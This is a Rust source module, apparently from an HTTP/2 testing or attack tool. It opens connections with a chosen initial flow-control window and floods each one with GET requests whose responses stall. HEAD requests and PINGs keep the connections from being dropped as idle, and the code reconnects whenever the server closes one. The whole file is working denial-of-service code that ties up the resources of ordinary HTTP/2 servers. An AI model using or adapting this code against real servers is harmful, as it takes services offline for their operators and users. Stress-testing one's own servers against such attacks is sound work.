//! Requests whose responses stall, because the client opens no flow-control window.

use std::io;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use super::Target;
use crate::http2::{
    frame, request, setting, Http2, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING,
};

/// Below the usual `SETTINGS_MAX_CONCURRENT_STREAMS`.
const FIRST_REQUESTS: u32 = 100;
/// Later requests, which replace those that the server has reset.
const LATER_REQUESTS: u32 = 10;
const INTERVAL: Duration = Duration::from_millis(250);

/// Until `done`, keeps a connection with that initial window, and opens another when the server closes it.
pub(crate) fn leave_unread(window: u32, target: Target<'_>, done: &AtomicBool, sent: &AtomicU64) {
    while !done.load(Ordering::Acquire) {
        // A server may close the connection.
        let _ = hold_connection(window, target, done, sent);
        thread::sleep(INTERVAL);
    }
}

fn hold_connection(window: u32, target: Target<'_>, done: &AtomicBool, sent: &AtomicU64) -> io::Result<()> {
    let mut connection = Http2::connect(target.address, &setting(INITIAL_WINDOW_SIZE, window))?;
    let mut count = FIRST_REQUESTS;
    while !done.load(Ordering::Acquire) {
        for _ in 0..count {
            send_request("GET", target.path, &mut connection)?;
            sent.fetch_add(1, Ordering::Relaxed);
        }
        // Their responses need no window, so the connection is not idle.
        send_request("HEAD", target.path, &mut connection)?;
        connection.send(&frame(PING, 0, 0, &[0; 8]))?;
        thread::sleep(INTERVAL);
        connection.discard_received()?;
        count = LATER_REQUESTS;
    }
    Ok(())
}

fn send_request(method: &str, path: &str, connection: &mut Http2) -> io::Result<()> {
    let stream = connection.open_stream();
    connection.send(&frame(
        HEADERS,
        END_STREAM | END_HEADERS,
        stream,
        &request(method, path),
    ))
}
